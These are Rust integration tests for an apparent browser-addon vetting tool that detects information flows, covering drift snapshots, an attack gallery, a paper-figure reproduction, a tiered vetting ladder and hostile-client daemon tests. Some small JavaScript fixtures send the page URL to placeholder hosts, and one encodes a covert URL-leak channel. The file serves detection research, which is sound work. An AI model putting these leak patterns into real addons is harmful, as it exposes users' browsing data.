