//! Integration tests for the corpus drift observatory, exercising the
//! same path `vet corpus-snapshot` / `vet corpus-diff` use: snapshot the
//! corpus, round-trip through serialized JSON (the on-disk form), and
//! diff. Two same-analyzer snapshots must report zero drift
//! deterministically; signature-level edits must trip the gate while
//! witness-line churn must not.

use addon_sig::drift::{diff_snapshots, snapshot_corpus};
use jsanalysis::AnalysisConfig;
use minijson::Json;

/// Rebuilds `doc` with `key` replaced by `value`. minijson's `set`
/// appends without replacing, so edits must reconstruct the pair list.
fn with_key(doc: &Json, key: &str, value: Json) -> Json {
    let Json::Obj(pairs) = doc else {
        panic!("expected object");
    };
    Json::Obj(
        pairs
            .iter()
            .map(|(k, v)| {
                if k == key {
                    (k.clone(), value.clone())
                } else {
                    (k.clone(), v.clone())
                }
            })
            .collect(),
    )
}

/// Applies `edit` to the first flow object of `addon`'s signature inside
/// a snapshot document, rebuilding every enclosing object on the way up.
fn edit_first_flow(snapshot: &Json, addon: &str, edit: impl Fn(&Json) -> Json) -> Json {
    let entry = &snapshot["addons"][addon];
    let flows = entry["signature"]["flows"]
        .as_array()
        .expect("addon has flows");
    assert!(!flows.is_empty(), "{addon} must have at least one flow");
    let mut new_flows = flows.to_vec();
    new_flows[0] = edit(&flows[0]);
    let signature = with_key(&entry["signature"], "flows", Json::Arr(new_flows));
    let new_entry = with_key(entry, "signature", signature);
    let addons = with_key(&snapshot["addons"], addon, new_entry);
    with_key(snapshot, "addons", addons)
}

/// A corpus addon whose snapshot entry carries at least one flow row.
fn addon_with_flows(snapshot: &Json) -> String {
    let Json::Obj(pairs) = &snapshot["addons"] else {
        panic!("addons object");
    };
    pairs
        .iter()
        .find(|(_, entry)| {
            entry["signature"]["flows"]
                .as_array()
                .is_some_and(|f| !f.is_empty())
        })
        .map(|(name, _)| name.clone())
        .expect("some corpus addon produces flows")
}

#[test]
fn same_analyzer_snapshots_diff_to_zero_drift_through_disk_format() {
    let config = AnalysisConfig::default();
    let a = snapshot_corpus(&config);
    let b = snapshot_corpus(&config);

    // Determinism at the byte level: the exact property the on-disk
    // observatory depends on (no timestamps, no wall times, no ordering
    // wobble from parallelism).
    assert_eq!(a.to_string_compact(), b.to_string_compact());

    // Round-trip both through the pretty text `vet corpus-snapshot`
    // writes, then diff the re-parsed documents like `vet corpus-diff`.
    let a = Json::parse(&a.to_string_pretty()).expect("round-trip");
    let b = Json::parse(&b.to_string_pretty()).expect("round-trip");
    let report = diff_snapshots(&a, &b).expect("diff");
    assert!(!report.has_signature_drift(), "{}", report.to_json());
    assert!(!report.config_mismatch);
    assert!(report.only_in_old.is_empty() && report.only_in_new.is_empty());
    assert!(report.changed.is_empty(), "no addon may change");
    assert_eq!(report.to_json()["drift"], Json::Bool(false));
}

#[test]
fn retyped_flow_is_signature_drift() {
    let old = snapshot_corpus(&AnalysisConfig::default());
    let addon = addon_with_flows(&old);
    // Retype the first flow: same source/sink identity, different flow
    // kind — the explicit→implicit laundering case the paper's vetting
    // flags.
    let new = edit_first_flow(&old, &addon, |f| {
        let retyped = if f["flow"] == "explicit" {
            "implicit"
        } else {
            "explicit"
        };
        with_key(f, "flow", Json::from(retyped))
    });

    let report = diff_snapshots(&old, &new).expect("diff");
    assert!(report.has_signature_drift());
    let drift = report
        .changed
        .iter()
        .find(|d| d.name == addon)
        .expect("edited addon reported");
    assert!(drift.is_signature_drift());
    assert!(!drift.verdict_flip(), "both sides still verdict ok");
    assert_eq!(drift.flows.retyped.len(), 1);
    assert!(drift.flows.added.is_empty() && drift.flows.removed.is_empty());
}

#[test]
fn witness_line_churn_is_not_drift() {
    let old = snapshot_corpus(&AnalysisConfig::default());
    let addon = addon_with_flows(&old);
    // Shift the witness lines (as a reformat would) without touching the
    // flow identity: the observatory must stay quiet.
    let new = edit_first_flow(&old, &addon, |f| {
        with_key(
            f,
            "witness_lines",
            Json::Arr(vec![Json::from(9001.0), Json::from(9002.0)]),
        )
    });

    let report = diff_snapshots(&old, &new).expect("diff");
    assert!(
        !report.has_signature_drift(),
        "witness lines are excluded from drift identity: {}",
        report.to_json()
    );
}

#[test]
fn budget_starved_run_reads_as_verdict_flips() {
    let healthy = snapshot_corpus(&AnalysisConfig::default());
    let starved = snapshot_corpus(&AnalysisConfig::default().with_step_budget(1));
    let report = diff_snapshots(&healthy, &starved).expect("diff");
    assert!(report.config_mismatch, "different configs must be flagged");
    assert!(report.has_signature_drift());
    assert!(
        report.changed.iter().all(|d| d.verdict_flip()),
        "every addon flips ok -> timeout under a one-step budget"
    );
}
