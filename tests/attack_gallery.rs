//! The attack gallery: for each proof-of-concept malicious addon (modeled
//! on the published exploits the paper's motivation cites), the inferred
//! signature must surface the documented evidence -- the exfiltration
//! flow, the covert channel, or the restricted dynamic-code APIs.

use addon_sig::analyze_addon;
use corpus::attacks::{attacks, Evidence};
use jssig::{FlowLattice, FlowType};

#[test]
fn every_attack_is_exposed_by_its_signature() {
    let lattice = FlowLattice::paper();
    for attack in attacks() {
        let report = analyze_addon(attack.source)
            .unwrap_or_else(|e| panic!("{}: {e}", attack.name));
        let sig = &report.signature;
        for ev in &attack.evidence {
            match ev {
                Evidence::Flow {
                    source,
                    domain,
                    at_least,
                } => {
                    let hit = sig.flows.iter().find(|e| {
                        e.source == *source
                            && e.sink
                                .domain
                                .known_text()
                                .is_some_and(|d| d.contains(domain))
                    });
                    let entry = hit.unwrap_or_else(|| {
                        panic!(
                            "{}: no {source} flow to {domain} in signature:\n{sig}",
                            attack.name
                        )
                    });
                    assert!(
                        lattice.stronger_or_equal(entry.flow, FlowType(at_least - 1)),
                        "{}: flow {} weaker than required type{at_least}",
                        attack.name,
                        entry.flow
                    );
                }
                Evidence::Api(name) => {
                    assert!(
                        sig.apis.contains(*name),
                        "{}: missing api-use {name} in:\n{sig}",
                        attack.name
                    );
                }
                Evidence::Sink { kind, domain } => {
                    assert!(
                        sig.sinks.iter().any(|s| s.kind == *kind
                            && s.domain
                                .known_text()
                                .is_some_and(|d| d.contains(domain))),
                        "{}: missing {kind} sink to {domain} in:\n{sig}",
                        attack.name
                    );
                }
            }
        }
    }
}

#[test]
fn covert_beacon_has_no_explicit_flow() {
    // The beacon attack's whole point: the URL never flows as data.
    let attack = attacks()
        .into_iter()
        .find(|a| a.name == "covert-url-beacon")
        .unwrap();
    let report = analyze_addon(attack.source).unwrap();
    for entry in &report.signature.flows {
        assert!(
            entry.flow != FlowType(0) && entry.flow != FlowType(1),
            "covert channel must not be classified as explicit data flow: {entry}"
        );
    }
    // It IS classified as an amplified implicit flow (type3): one beacon
    // per page load.
    assert!(
        report
            .signature
            .flows
            .iter()
            .any(|e| e.flow == FlowType(2)),
        "expected type3 amplified implicit flow:\n{}",
        report.signature
    );
}

#[test]
fn keylogger_flow_is_amplified_data() {
    // The keylogger accumulates key codes in a buffer across events and
    // ships them as data: the strongest achievable type is a data flow
    // (the buffer concatenation makes it weak, not strong).
    let attack = attacks().into_iter().find(|a| a.name == "keylogger").unwrap();
    let report = analyze_addon(attack.source).unwrap();
    let key_flows: Vec<_> = report
        .signature
        .flows
        .iter()
        .filter(|e| e.source == jsanalysis::SourceKind::Key)
        .collect();
    assert!(!key_flows.is_empty());
    assert!(
        key_flows
            .iter()
            .any(|e| e.flow == FlowType(0) || e.flow == FlowType(1)),
        "keylogger is a data exfiltration, got:\n{}",
        report.signature
    );
}

#[test]
fn dynamic_loader_would_be_rejected_outright() {
    // Section 2: "we can safely disallow addons from using dynamic code.
    // Our analysis reports any potential use of these restricted APIs."
    let attack = attacks()
        .into_iter()
        .find(|a| a.name == "dynamic-loader")
        .unwrap();
    let report = analyze_addon(attack.source).unwrap();
    let restricted: Vec<&String> = report
        .signature
        .apis
        .iter()
        .filter(|a| {
            a.as_str() == "eval"
                || a.as_str() == "Function"
                || a.as_str() == "setTimeout$string"
                || a.as_str() == "Services.scriptloader.loadSubScript"
        })
        .collect();
    assert!(
        restricted.len() >= 3,
        "expected multiple restricted APIs, got {restricted:?}"
    );
}
