//! Reproduces Figure 2 of the paper: the annotated PDG of the Figure 1
//! example program. Each assertion checks one of the figure's edges,
//! identified by source line numbers matching the paper's listing.

use addon_sig::analyze_addon;
use jspdg::{Annotation, CtrlKind, PdgEdge};

/// The Figure 1 program, adapted to the analyzed environment:
/// `doc.loc` is `content.location.href`, `send` is a network helper built
/// on XHR, `func` is a value that may be callable or undefined, `obj` may
/// reference an object or be undefined, and `getString()` returns an
/// unknown string.
///
/// Line numbers (1-based) of the interesting statements are kept stable
/// by the layout below and referenced in the tests.
const FIGURE1: &str = r#"var doc = { loc: content.location.href };
var data = { url: doc.loc };
send(data.url);
send(data[getString()]);
func();
if (doc.loc == "secret.com")
  send(null);
var arr = ["covert.com", "priv.com"];
var i = 0, count = 0;
while (arr[i] && doc.loc != arr[i]) {
  i++;
  count++;
}
send(count);
try {
  if (doc.loc != "hush-hush.com")
    throw "irrelevant";
  send(null);
} catch (x) {};
try {
  if (doc.loc != "mystic.com")
    obj.prop = 1;
  send(null);
} catch (x) {}
"#;

/// Environment preamble giving the example its assumed bindings:
/// `send` posts its argument over the network; `func` may be undefined;
/// `obj` may be an object or undefined; `getString` returns an unknown
/// string.
const PREAMBLE: &str = r#"var send = function (payload) {
  var r = XHRWrapper("http://sink.example.com/collect");
  r.send(payload);
};
var getString = function () { return JSON.stringify(Math.random()); };
var func; if (Math.random() < 0.5) { func = function () {}; }
var obj; if (Math.random() < 0.5) { obj = {}; }
"#;

struct Fig {
    report: addon_sig::Report,
    /// Lines of the example body are offset by the preamble length.
    offset: u32,
}

impl Fig {
    fn build() -> Fig {
        let offset = PREAMBLE.lines().count() as u32;
        let src = format!("{PREAMBLE}{FIGURE1}");
        let report = analyze_addon(&src).expect("figure 1 analyzes");
        Fig { report, offset }
    }

    /// All PDG edges from a statement on example line `from` to one on
    /// example line `to`.
    fn edges(&self, from: u32, to: u32) -> Vec<PdgEdge> {
        let (from, to) = (from + self.offset, to + self.offset);
        self.report
            .pdg
            .edges()
            .filter(|e| {
                self.report.lowered.program.stmt(e.from).span.line == from
                    && self.report.lowered.program.stmt(e.to).span.line == to
            })
            .copied()
            .collect()
    }

    fn has(&self, from: u32, to: u32, ann: Annotation) -> bool {
        self.edges(from, to).iter().any(|e| e.ann == ann)
    }
}

fn local(amp: bool) -> Annotation {
    Annotation::Ctrl {
        kind: CtrlKind::Local,
        amp,
    }
}

fn nonlocexp(amp: bool) -> Annotation {
    Annotation::Ctrl {
        kind: CtrlKind::NonLocExp,
        amp,
    }
}

fn nonlocimp(amp: bool) -> Annotation {
    Annotation::Ctrl {
        kind: CtrlKind::NonLocImp,
        amp,
    }
}

#[test]
fn line1_to_line2_datastrong() {
    // "The edge 1 -> 2 exists because we can determine definitely that the
    // call argument at line 2 refers to the (object, property) pair
    // created at line 1." (Paper line 1 = example line 2 here, since the
    // doc stub occupies line 1; the paper's lines 1/2/3 are ours 2/3/4.)
    let fig = Fig::build();
    assert!(
        fig.has(2, 3, Annotation::DataStrong),
        "missing datastrong edge, got {:?}",
        fig.edges(2, 3)
    );
}

#[test]
fn line1_to_line3_dataweak() {
    // data[getString()] -- unknown property: weak. (Our IR is finer than
    // the paper's per-line nodes: line 2 also defines the `data` variable
    // itself, whose read at line 4 is legitimately strong; the *property*
    // flow must be weak.)
    let fig = Fig::build();
    assert!(
        fig.has(2, 4, Annotation::DataWeak),
        "missing dataweak edge, got {:?}",
        fig.edges(2, 4)
    );
}

#[test]
fn line5_to_line6_local_unamplified() {
    // Paper: "the edge 5 --local--> 6 exists because line 6's execution
    // depends on line 5 but there is no loop". Ours: line 6 -> line 7.
    let fig = Fig::build();
    assert!(
        fig.has(6, 7, local(false)),
        "missing local edge, got {:?}",
        fig.edges(6, 7)
    );
}

#[test]
fn line9_to_line11_local_amplified() {
    // Paper: "9 --local^amp--> 11 exists because line 11's execution
    // depends on line 9 and there is a containing loop".
    // Ours: while-condition line 10 -> count++ line 12.
    let fig = Fig::build();
    assert!(
        fig.has(10, 12, local(true)),
        "missing amplified local edge, got {:?}",
        fig.edges(10, 12)
    );
}

#[test]
fn line14_to_line16_nonlocexp() {
    // Paper: "the explicit non-local control flow at line 15 can cause
    // line 16 to not execute. Hence the edge 14 --nonlocexp--> 16."
    // Ours: guard line 16 -> send(null) line 18.
    let fig = Fig::build();
    assert!(
        fig.has(16, 18, nonlocexp(false)),
        "missing nonlocexp edge, got {:?}",
        fig.edges(16, 18)
    );
    assert!(
        !fig.has(16, 18, local(false)),
        "the dependence must come from the throw, not local flow"
    );
}

#[test]
fn line20_to_line21_nonlocimp() {
    // Paper: "Line 20 can potentially throw an implicit exception ...
    // hence the edge 20 --nonlocimp--> 21."
    // Ours: obj.prop = 1 on line 22 -> send(null) line 23.
    let fig = Fig::build();
    assert!(
        fig.has(22, 23, nonlocimp(false)),
        "missing nonlocimp edge, got {:?}",
        fig.edges(22, 23)
    );
}

#[test]
fn line19_to_line20_local() {
    // The guard controls the store locally (shown in Figure 2's layout as
    // the 20 node hanging off the try's conditional).
    let fig = Fig::build();
    assert!(
        fig.has(21, 22, local(false)),
        "missing local edge, got {:?}",
        fig.edges(21, 22)
    );
}

#[test]
fn line4_uncaught_exception_edges_omitted() {
    // Paper: "we omit edges due to a potential implicit exception at line
    // 4" (calling possibly-undefined func outside any try). Ours: line 5.
    // No control edge may leave the func() call.
    let fig = Fig::build();
    for to in 1..=23 {
        let edges: Vec<PdgEdge> = fig
            .edges(5, to)
            .into_iter()
            .filter(|e| !e.ann.is_data())
            .collect();
        assert!(
            edges.is_empty(),
            "uncaught-exception control edges must be omitted, got {edges:?}"
        );
    }
}

#[test]
fn url_flows_to_all_four_guarded_sends() {
    // All sends are PDG-reachable from the URL read; the signature
    // summarizes them with the strongest applicable types.
    let fig = Fig::build();
    let sig = &fig.report.signature;
    assert!(
        sig.flows
            .iter()
            .any(|e| e.source == jsanalysis::SourceKind::Url),
        "figure 1 must produce url flow entries:\n{sig}"
    );
}
