//! The tiered vetting ladder's end-to-end contracts: no-downgrade
//! golden identity over the corpus and the attack gallery, tier-0
//! imprecision escalating instead of flagging, tier-0 budget exhaustion
//! escalating instead of surfacing as a timeout, and the escalated
//! lifecycle reconstructing from the daemon's event log alone.

use addon_sig::ladder::{vet_ladder, EscalationReason};
use addon_sig::sigserve::{Client, ServeConfig, Server};
use addon_sig::{analyze_addon, Error};
use jsanalysis::{AnalysisConfig, BudgetKind, LadderRung, LadderSpec};
use std::sync::Arc;

/// A ladder whose first rung is tier0 with the given step budget and
/// whose final rung is full sensitivity — the shape `vet --ladder`
/// builds, with the triage budget under test control.
fn ladder_with_tier0_budget(budget: usize) -> LadderSpec {
    LadderSpec {
        rungs: vec![
            LadderRung {
                name: "tier0".to_owned(),
                config: AnalysisConfig::tier0().with_step_budget(budget),
            },
            LadderRung {
                name: "full".to_owned(),
                config: AnalysisConfig::tier_full(),
            },
        ],
    }
}

/// The no-downgrade golden: over every corpus addon and every gallery
/// attack, the ladder's terminal signature is byte-identical to a
/// plain full-sensitivity analysis. Resolving at tier 0 is only sound
/// because a flow-free triage signature IS the full signature; this
/// test is that argument, checked against the whole suite.
#[test]
fn ladder_never_downgrades_corpus_or_gallery_signatures() {
    let ladder = LadderSpec::standard();
    let suite = corpus::addons()
        .into_iter()
        .map(|a| (a.name, a.source))
        .chain(corpus::attacks::attacks().into_iter().map(|a| (a.name, a.source)));
    for (name, source) in suite {
        let full = analyze_addon(source).unwrap_or_else(|e| panic!("{name}: {e}"));
        let run = vet_ladder(source, &ladder);
        let report = run
            .result
            .unwrap_or_else(|e| panic!("{name}: ladder errored: {e}"));
        assert_eq!(
            report.signature.to_json(),
            full.signature.to_json(),
            "{name}: ladder signature (terminal tier {}) diverged from full sensitivity",
            run.tier
        );
    }
}

/// An addon that is flagged at tier 0 but benign at full sensitivity:
/// `pick` only reads the URL under a flag no caller passes, and k=0
/// merges the call sites into an unknown flag, so the context-insensitive
/// rung sees a spurious flow. The ladder's whole point: that imprecision
/// escalates (sound direction — suspicion climbs, it never acquits), and
/// the full rung's flow-free verdict is the one the client sees.
#[test]
fn tier0_imprecision_escalates_and_the_full_tier_acquits() {
    let source = "function pick(flag) {\n\
                  \x20 if (flag === \"yes\") { return content.location.href; }\n\
                  \x20 return \"fallback:\" + flag;\n\
                  }\n\
                  var r = XHRWrapper(\"http://metrics.example.com/beat\");\n\
                  r.send(pick(\"no\"));\n\
                  r.send(pick(\"maybe\"));\n";
    // Establish the premise: full sensitivity sees no flows...
    let full = analyze_addon(source).expect("full analysis");
    assert!(
        full.signature.flows.is_empty(),
        "premise: full sensitivity must acquit:\n{}",
        full.signature
    );
    // ...but a bare k=0 run (no ladder) flags it.
    let k0 = addon_sig::Pipeline::new()
        .config(AnalysisConfig::tier0())
        .run(source)
        .expect("tier0 analysis");
    assert!(
        !k0.signature.flows.is_empty(),
        "premise: tier 0 must see the spurious flow"
    );
    // The ladder escalates on that flow and delivers the acquittal.
    let run = vet_ladder(source, &LadderSpec::standard());
    assert_eq!(run.tier, "full");
    assert_eq!(run.escalations.len(), 1);
    assert_eq!(run.escalations[0].reason, EscalationReason::Flows);
    let report = run.result.expect("terminal verdict");
    assert!(report.signature.flows.is_empty());
    assert_eq!(report.signature.to_json(), full.signature.to_json());
}

/// The timeout-suppression regression (tier-0 budgets are an internal
/// pacing device, not a verdict): with a one-step triage budget, every
/// gallery attack exhausts tier 0 instantly — and every one must
/// escalate and come back with the full rung's exact verdict, never a
/// client-visible timeout.
#[test]
fn tier0_budget_exhaustion_escalates_across_the_gallery() {
    let ladder = ladder_with_tier0_budget(1);
    for attack in corpus::attacks::attacks() {
        let run = vet_ladder(attack.source, &ladder);
        assert_eq!(run.tier, "full", "{}: must escalate off the starved rung", attack.name);
        assert_eq!(run.escalations.len(), 1);
        assert_eq!(
            run.escalations[0].reason,
            EscalationReason::Budget,
            "{}: a one-step budget exhausts before any flow is seen",
            attack.name
        );
        let report = run
            .result
            .unwrap_or_else(|e| panic!("{}: starved tier 0 must not surface: {e}", attack.name));
        let full = analyze_addon(attack.source).expect("full analysis");
        assert_eq!(report.signature.to_json(), full.signature.to_json(), "{}", attack.name);
    }
}

/// Only final-rung exhaustion is a real timeout, and the outcome names
/// the rung that exhausted — the postmortem contract.
#[test]
fn final_rung_exhaustion_surfaces_and_names_the_rung() {
    let ladder = LadderSpec {
        rungs: vec![
            LadderRung {
                name: "tier0".to_owned(),
                config: AnalysisConfig::tier0().with_step_budget(1),
            },
            LadderRung {
                name: "full_starved".to_owned(),
                config: AnalysisConfig::tier_full().with_step_budget(1),
            },
        ],
    };
    let run = vet_ladder("var x = 1; var y = x + 'z';", &ladder);
    assert_eq!(run.tier, "full_starved", "the exhausting rung is named");
    assert_eq!(run.escalations.len(), 1, "tier 0 escalated, the final rung cannot");
    assert!(
        matches!(
            run.result,
            Err(Error::Budget {
                kind: BudgetKind::Steps,
                ..
            })
        ),
        "final-rung exhaustion is the terminal verdict"
    );
}

/// The daemon-side contract, end to end: a ladder daemon resolves a
/// benign addon at tier 0 and escalates a flowful one (both stamped
/// with their producing tier on the wire), a starved triage rung never
/// surfaces as a client-visible timeout, and the escalated lifecycle
/// reconstructs from the event log alone — one job id, two attempts,
/// one escalation, one terminal verdict.
#[test]
fn escalated_lifecycle_replays_from_the_daemon_log_alone() {
    const BENIGN: &str = "var greeting = 'hello' + ' world';";
    const FLOWFUL: &str = "var u = content.location.href;\n\
                           var r = XHRWrapper(\"http://x.example.com\");\n\
                           r.send(u);";
    let log = Arc::new(sigobs::EventLog::in_memory(sigobs::Level::Info).with_tail_cap(4096));
    let server = Server::builder()
        .config(ServeConfig {
            ladder: Some(LadderSpec::standard()),
            log: Some(log.clone()),
            workers: 2,
            ..ServeConfig::default()
        })
        .addr("127.0.0.1:0")
        .analyze(addon_sig::service_engine)
        .start()
        .expect("bind ladder daemon");
    let mut client = Client::connect(server.local_addr()).expect("connect");

    let benign = client.vet_source(Some("benign"), BENIGN).expect("vet benign");
    assert_eq!(benign["verdict"], "ok");
    assert_eq!(benign["tier"].as_str(), Some("tier0"), "wire tier stamp");
    assert!(benign["signature"]["flows"].as_array().is_some_and(Vec::is_empty));

    let flowful = client.vet_source(Some("flowful"), FLOWFUL).expect("vet flowful");
    assert_eq!(flowful["verdict"], "ok");
    assert_eq!(flowful["tier"].as_str(), Some("full"), "escalated verdicts carry the full tier");
    assert!(!flowful["signature"]["flows"].as_array().unwrap().is_empty());

    assert_eq!(client.shutdown().expect("shutdown")["kind"], "shutdown_ack");
    server.join();

    // Reconstruct both lifecycles from the log text alone.
    log.flush();
    let text = log.tail_lines().join("\n");
    let replay = sigobs::replay::replay_log(&text).expect("ladder log must replay");
    let escalated: Vec<_> = replay
        .timelines
        .values()
        .filter(|t| !t.escalations.is_empty())
        .collect();
    assert_eq!(escalated.len(), 1, "exactly one escalated lifecycle");
    let t = escalated[0];
    assert_eq!(t.validate(), Ok(sigobs::replay::Outcome::Computed));
    assert_eq!(t.attempts.len(), 2, "tier0 attempt plus full attempt");
    assert_eq!(t.tier.as_deref(), Some("full"));
    let (_, from, to, reason) = &t.escalations[0];
    assert_eq!((from.as_str(), to.as_str(), reason.as_str()), ("tier0", "full", "flows"));
    let resolved: Vec<_> = replay
        .timelines
        .values()
        .filter(|t| t.escalations.is_empty() && t.tier.as_deref() == Some("tier0"))
        .collect();
    assert_eq!(resolved.len(), 1, "the benign job resolved at tier 0");
}

/// A ladder daemon whose triage rung is starved must still never show
/// the client a timeout for anything the full rung can finish.
#[test]
fn starved_triage_rung_never_surfaces_a_timeout() {
    let server = Server::builder()
        .config(ServeConfig {
            ladder: Some(ladder_with_tier0_budget(1)),
            workers: 2,
            ..ServeConfig::default()
        })
        .addr("127.0.0.1:0")
        .analyze(addon_sig::service_engine)
        .start()
        .expect("bind ladder daemon");
    let mut client = Client::connect(server.local_addr()).expect("connect");
    for attack in corpus::attacks::attacks() {
        let resp = client.vet_source(Some(attack.name), attack.source).expect("vet");
        assert_eq!(
            resp["verdict"], "ok",
            "{}: a starved triage budget must escalate, not time out",
            attack.name
        );
        assert_eq!(resp["tier"].as_str(), Some("full"), "{}", attack.name);
    }
    assert_eq!(client.shutdown().expect("shutdown")["kind"], "shutdown_ack");
    server.join();
}
