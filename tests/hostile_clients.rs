//! Hostile-client tests for the event-driven server core: clients that
//! trickle bytes, clients that never read their responses, and clients
//! that vanish mid-request must not stall or crash the daemon — and the
//! structured event log of such a session (connection lifecycle events
//! included) must still replay into consistent per-job histories.

use addon_sig::sigobs::replay::replay_log;
use addon_sig::sigobs::{EventLog, Level};
use addon_sig::sigserve::{Client, ServeConfig, Server};
use minijson::Json;
use std::io::{Read, Write};
use std::net::TcpStream;
use std::sync::Arc;
use std::time::{Duration, Instant};

/// Binds an ephemeral daemon on the real pipeline, with an in-memory
/// debug log deep enough for a whole test session.
fn bind_logged(mut cfg: ServeConfig) -> (Server, Arc<EventLog>) {
    let log = Arc::new(EventLog::in_memory(Level::Debug).with_tail_cap(16_384));
    cfg.log = Some(log.clone());
    let server = Server::builder()
        .config(cfg)
        .addr("127.0.0.1:0")
        .analyze_traced(addon_sig::service_engine_traced)
        .start()
        .expect("bind");
    (server, log)
}

/// Replays the daemon's log and asserts every job lifecycle validates;
/// connection events (`conn_accepted`/`conn_closed`/...) ride along.
fn assert_replays(log: &EventLog) {
    log.flush();
    let text = log.tail_lines().join("\n");
    let replay = replay_log(&text).expect("hostile-session log must replay");
    for (job, timeline) in &replay.timelines {
        timeline
            .validate()
            .unwrap_or_else(|e| panic!("job {job}: inconsistent lifecycle: {e}"));
    }
    assert!(
        text.contains("\"event\":\"conn_accepted\"") && text.contains("\"event\":\"conn_closed\""),
        "a debug log must carry the connection lifecycle"
    );
}

#[test]
fn slow_loris_does_not_stall_other_clients() {
    let (server, log) = bind_logged(ServeConfig::default());
    let addr = server.local_addr();

    // The loris trickles a valid request one byte at a time, never
    // finishing its line during the test.
    let request = Json::parse(r#"{"kind":"vet","name":"loris","source":"var l = 1;"}"#)
        .unwrap()
        .to_string_compact();
    let mut loris = TcpStream::connect(addr).expect("loris connect");
    let mut healthy = Client::connect(addr).expect("healthy connect");
    let mut trickled = 0usize;
    let t0 = Instant::now();
    for (i, byte) in request.as_bytes().iter().take(20).enumerate() {
        loris.write_all(&[*byte]).expect("loris byte");
        trickled = i + 1;
        // Between every dribbled byte, a well-behaved client gets a
        // full round trip promptly — the loris holds no shared lock.
        let resp = healthy
            .vet_source(Some("healthy"), "var h = content.location.href;")
            .expect("healthy vet");
        assert_eq!(resp["verdict"], "ok");
    }
    assert!(trickled > 0);
    assert!(
        t0.elapsed() < Duration::from_secs(20),
        "healthy round trips must not be serialized behind the loris"
    );

    // The loris eventually finishes its line and still gets an answer:
    // partial lines buffer per-connection, they don't poison anything.
    loris
        .write_all(&request.as_bytes()[20.min(request.len())..])
        .expect("loris rest");
    loris.write_all(b"\n").expect("loris newline");
    let mut resp = Vec::new();
    let mut one = [0u8; 1024];
    loop {
        let n = loris.read(&mut one).expect("loris read");
        assert!(n > 0, "daemon closed on the completed loris request");
        resp.extend_from_slice(&one[..n]);
        if resp.contains(&b'\n') {
            break;
        }
    }
    let line = String::from_utf8(resp).expect("utf8 response");
    let parsed = Json::parse(line.lines().next().unwrap()).expect("json response");
    assert_eq!(parsed["verdict"], "ok", "completed loris request is served");

    let ack = healthy.shutdown().expect("shutdown");
    assert_eq!(ack["kind"], "shutdown_ack");
    drop(loris);
    server.join();
    assert_replays(&log);
}

#[test]
fn never_reading_client_is_shed_not_blocking() {
    // A tiny outbound buffer so a flood from a non-reading client trips
    // backpressure quickly instead of needing megabytes of responses.
    let cfg = ServeConfig {
        outbuf_cap: 4 * 1024,
        ..ServeConfig::default()
    };
    let (server, log) = bind_logged(cfg);
    let addr = server.local_addr();

    // The hostile client pipelines many requests and never reads one
    // byte of response. Distinct sources defeat the cache so every
    // accepted item produces a real (multi-KB) signature response.
    let mut hostile = TcpStream::connect(addr).expect("hostile connect");
    let mut sent = 0usize;
    for i in 0..600 {
        let req = format!(
            "{{\"kind\":\"vet\",\"name\":\"flood{i}\",\"source\":\"var f{i} = content.location.href; XHRWrapper('http://x{i}.com').send(f{i});\"}}\n"
        );
        // Once the daemon kills the connection (hard backpressure cap)
        // the write side eventually fails; that is the success mode.
        match hostile.write_all(req.as_bytes()) {
            Ok(()) => sent += 1,
            Err(_) => break,
        }
    }
    assert!(sent > 0);

    // While the flood is outstanding, a healthy client stays responsive:
    // every request is answered promptly. Early answers may be typed
    // queue sheds (the flood legitimately fills the shared job queue);
    // once the workers drain it, verdicts come back `ok`.
    let mut healthy = Client::connect(addr).expect("healthy connect");
    let deadline = Instant::now() + Duration::from_secs(30);
    loop {
        let t0 = Instant::now();
        let resp = healthy
            .vet_source(Some("healthy"), "var ok = 1;")
            .expect("healthy vet");
        assert!(
            t0.elapsed() < Duration::from_secs(5),
            "healthy round trip stalled behind the non-reading flood"
        );
        if resp["verdict"] == "ok" {
            break;
        }
        assert_eq!(resp["kind"], "overloaded", "unexpected answer: {resp}");
        assert!(
            Instant::now() < deadline,
            "queue never drained behind the flood"
        );
        std::thread::sleep(Duration::from_millis(20));
    }

    // The daemon shed for backpressure (typed responses it queued while
    // the buffer had room are fine; past the cap items are shed and the
    // connection is eventually closed rather than buffering unbounded).
    let sheds = loop {
        let stats = healthy.stats().expect("stats");
        let sheds = stats["conns"]["backpressure_sheds"].as_f64().unwrap_or(0.0);
        if sheds > 0.0 {
            break sheds;
        }
        assert!(
            Instant::now() < deadline,
            "flood never tripped write backpressure"
        );
        std::thread::sleep(Duration::from_millis(20));
    };
    assert!(sheds > 0.0);

    let ack = healthy.shutdown().expect("shutdown");
    assert_eq!(ack["kind"], "shutdown_ack");
    drop(hostile);
    server.join();
    assert_replays(&log);
}

#[test]
fn mid_request_disconnect_leaves_a_replayable_log() {
    let (server, log) = bind_logged(ServeConfig::default());
    let addr = server.local_addr();

    // Submit a real request and slam the connection before reading the
    // response; repeat a few times, interleaved with half-written lines.
    for i in 0..4 {
        let mut ghost = TcpStream::connect(addr).expect("ghost connect");
        if i % 2 == 0 {
            let req = format!(
                "{{\"kind\":\"vet\",\"name\":\"ghost{i}\",\"source\":\"var g{i} = content.location.href;\"}}\n"
            );
            ghost.write_all(req.as_bytes()).expect("ghost request");
        } else {
            // A partial line: the daemon must just discard the fragment.
            ghost.write_all(b"{\"kind\":\"vet\",\"na").expect("ghost fragment");
        }
        drop(ghost); // disconnect with the job (or fragment) in flight
    }

    // The daemon survives and still serves; its accounting caught up.
    let mut healthy = Client::connect(addr).expect("healthy connect");
    let resp = healthy.vet_source(Some("after"), "var a = 1;").expect("vet");
    assert_eq!(resp["verdict"], "ok");
    let deadline = Instant::now() + Duration::from_secs(30);
    loop {
        let stats = healthy.stats().expect("stats");
        let closed = stats["conns"]["closed"].as_f64().unwrap_or(0.0);
        let accepted = stats["jobs"]["accepted"].as_f64().unwrap_or(0.0);
        let completed = stats["jobs"]["completed"].as_f64().unwrap_or(0.0);
        // All 4 ghosts closed, and every accepted job still ran to
        // completion even though its requester vanished.
        if closed >= 4.0 && completed >= accepted {
            break;
        }
        assert!(
            Instant::now() < deadline,
            "ghost connections never reconciled (closed {closed}, {completed}/{accepted} jobs)"
        );
        std::thread::sleep(Duration::from_millis(20));
    }

    let ack = healthy.shutdown().expect("shutdown");
    assert_eq!(ack["kind"], "shutdown_ack");
    server.join();
    // Orphaned jobs must still terminate in the log (`job_done` after
    // their connection died), so the replay validator stays green.
    assert_replays(&log);
}

#[test]
fn sequential_round_trips_are_not_nagle_delayed() {
    // Regression guard for the nonblocking write path: a lost
    // TCP_NODELAY (or a response split across a short write and a
